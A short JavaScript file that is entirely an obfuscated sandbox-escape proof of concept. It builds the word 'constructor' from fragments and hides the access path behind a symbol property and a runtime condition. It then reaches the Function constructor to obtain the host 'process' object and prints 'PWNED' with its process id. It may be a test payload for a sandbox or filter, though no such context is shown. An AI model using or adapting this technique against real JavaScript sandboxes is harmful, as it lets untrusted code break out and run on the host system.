'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const s = Symbol('s');
class K { constructor() { this[s] = t; } }
const o = Date.now() > 1 ? new K()[s] : {};
console.log('PWNED', o.go(fn)('return process')().pid);
